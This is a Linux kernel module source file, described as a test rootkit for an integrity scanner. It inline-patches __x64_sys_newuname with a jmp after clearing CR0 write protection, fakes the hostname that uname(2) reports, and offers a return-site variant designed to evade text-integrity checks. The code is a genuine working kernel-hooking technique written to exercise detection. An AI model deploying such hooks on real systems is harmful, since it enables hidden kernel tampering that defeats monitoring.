// SPDX-License-Identifier: GPL-2.0
/*
 * rk_inline: TEST ROOTKIT for vmwatch's integrity scanner. Never load it on a
 * machine you care about.
 *
 * Inline hook, khook style: the first instruction of __x64_sys_newuname (after
 * its endbr64 when the kernel is built with IBT) is overwritten with a 5-byte
 * `jmp rel32` to fake_newuname() in this module, which answers uname(2) with
 * the real utsname except nodename, replaced by the `nodename` parameter
 * (default "rk-inline-owned").  The 5 bytes overwritten are the __fentry__
 * call site (a 5-byte nop while not traced), so the original function is never
 * resumed: the replacement does the whole syscall.
 *
 * Ground truth in the guest: `uname -n` (and busybox `hostname`) print the fake
 * name, /proc/sys/kernel/hostname still has the real one.
 *
 * Text is written with CR0.WP cleared by our own `mov %cr0`, under
 * stop_machine() (IRQs off on every CPU).  rmmod puts the 5 original bytes
 * back, waits for callers still inside fake_newuname, then unloads.
 * Do not enable ftrace on __x64_sys_newuname while loaded (ftrace would find
 * our jmp where it expects its nop, refuse, and WARN).
 *
 * at=return instead hooks the first return site at or after the function's
 * entry (`jmp __x86_return_thunk`, or the `ret; int3...` the kernel patched
 * it to; a tail-calling function has none, and the next one's is taken), one
 * of the bytes the kernel itself rewrites at boot: a `jmp` to a stub in this
 * module that returns through the return thunk. uname(2) behaves as before;
 * a text check that skips the kernel's patch sites sees nothing.
 *
 * One line on load, for tests (addresses raw):
 *   rk_inline: hooked newuname inline nodename=<n> \
 *     __x64_sys_newuname+0x<off>@0x<patched address>:<5 old bytes hex>->jmp 0x<fake_newuname>
 *   rk_inline: hooked newuname return \
 *     __x64_sys_newuname+0x<off>@0x<patched address>:<5 old bytes hex>->jmp 0x<stub>
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/version.h>
#include <linux/kprobes.h>
#include <linux/uaccess.h>
#include <linux/string.h>
#include <linux/utsname.h>
#include <linux/rwsem.h>
#include <linux/ptrace.h>
#include <linux/stop_machine.h>
#include <linux/delay.h>
#include <linux/rcupdate.h>
#include <asm/special_insns.h>
#include <asm/processor-flags.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmwatch test rootkit: inline jmp patch of __x64_sys_newuname");

static char *nodename = "rk-inline-owned";
module_param(nodename, charp, 0444);
MODULE_PARM_DESC(nodename, "nodename uname(2) reports while loaded");

static char *at = "entry";
module_param(at, charp, 0444);
MODULE_PARM_DESC(at, "entry (replace the function) or return (hook its first return site)");

#include "rk_common.h"

/* at=return: the hooked return goes on through the kernel's return thunk. */
void rk_inline_ret(void);
asm(".pushsection .text, \"ax\"\n"
    ".globl rk_inline_ret\n"
    ".type rk_inline_ret, @function\n"
    "rk_inline_ret:\n"
    "\tendbr64\n"
    "\tjmp __x86_return_thunk\n"
    "\tint3\n"
    ".size rk_inline_ret, .-rk_inline_ret\n"
    ".popsection\n");


static int wp_patch_one(void *dst, const void *src, size_t len)
{
	struct wp_patch p[2] = { { dst, src, len }, {} };

	return wp_patch_all(p);
}

static struct rw_semaphore *uts_sem_p;
static atomic_t inflight = ATOMIC_INIT(0);

static asmlinkage long fake_newuname(const struct pt_regs *regs)
{
	struct new_utsname __user *name = (struct new_utsname __user *)regs->di;
	struct new_utsname tmp;
	long ret = 0;

	atomic_inc(&inflight);
	if (uts_sem_p)
		down_read(uts_sem_p);
	memcpy(&tmp, utsname(), sizeof(tmp));
	if (uts_sem_p)
		up_read(uts_sem_p);
	strscpy(tmp.nodename, nodename, sizeof(tmp.nodename));
	if (copy_to_user(name, &tmp, sizeof(tmp)))
		ret = -EFAULT;
	atomic_dec(&inflight);
	return ret;
}

#define PATCH_LEN 5
static unsigned long fn, patch_at;
static u8 old_bytes[PATCH_LEN], new_bytes[PATCH_LEN];
static bool patched;

static int __init rk_inline_init(void)
{
	unsigned long dest = (unsigned long)fake_newuname;
	s64 rel;
	int err;

	err = resolve_kln();
	if (err) {
		pr_err("kprobe on kallsyms_lookup_name failed: %d\n", err);
		return err;
	}
	fn = kln("__x64_sys_newuname");
	if (!fn) {
		pr_err("__x64_sys_newuname not found\n");
		return -ENOENT;
	}
	uts_sem_p = (struct rw_semaphore *)kln("uts_sem");
	patch_at = fn;
	if (is_endbr64(fn))
		patch_at += 4;
	if (!strcmp(at, "return")) {
		unsigned long thunk = kln("__x86_return_thunk"), a;

		patch_at = 0;
		for (a = fn + 4; a < fn + 512 && thunk; a++) {
			const u8 *b = (const u8 *)a;
			s32 off;

			memcpy(&off, b + 1, 4);
			if ((b[0] == 0xe9 && a + 5 + (s64)off == thunk) ||
			    (b[0] == 0xc3 && b[1] == 0xcc && b[2] == 0xcc && b[3] == 0xcc && b[4] == 0xcc)) {
				patch_at = a;
				break;
			}
		}
		if (!patch_at) {
			pr_err("no return site found in __x64_sys_newuname\n");
			return -ENOENT;
		}
		dest = (unsigned long)rk_inline_ret;
	} else if (strcmp(at, "entry")) {
		pr_err("at=%s: expected entry or return\n", at);
		return -EINVAL;
	}
	memcpy(old_bytes, (void *)patch_at, PATCH_LEN);
	if (dest == (unsigned long)fake_newuname && (old_bytes[0] == 0xe9 || old_bytes[0] == 0xe8)) {
		pr_err("__x64_sys_newuname already starts with a jmp/call (traced or hooked)\n");
		return -EBUSY;
	}
	OPTIMIZER_HIDE_VAR(dest);	/* no reloc to fake_newuname-5 (objtool) */
	rel = (s64)dest - (s64)(patch_at + PATCH_LEN);
	if (rel != (s32)rel) {
		pr_err("module out of rel32 range\n");
		return -ERANGE;
	}
	new_bytes[0] = 0xe9;
	memcpy(&new_bytes[1], &(s32){ (s32)rel }, 4);

	err = wp_patch_one((void *)patch_at, new_bytes, PATCH_LEN);
	if (err)
		return err;
	patched = true;
	if (dest == (unsigned long)rk_inline_ret)
		pr_info("hooked newuname return __x64_sys_newuname+0x%lx@%px:%5phN->jmp %px\n",
			patch_at - fn, (void *)patch_at, old_bytes, rk_inline_ret);
	else
		pr_info("hooked newuname inline nodename=%s __x64_sys_newuname+0x%lx@%px:%5phN->jmp %px\n",
			nodename, patch_at - fn, (void *)patch_at, old_bytes, fake_newuname);
	return 0;
}

static void __exit rk_inline_exit(void)
{
	if (patched)
		wp_patch_one((void *)patch_at, old_bytes, PATCH_LEN);
	synchronize_rcu_tasks();
	while (atomic_read(&inflight))
		msleep(10);
	synchronize_rcu_tasks();
	pr_info("unhooked newuname\n");
}

module_init(rk_inline_init);
module_exit(rk_inline_exit);
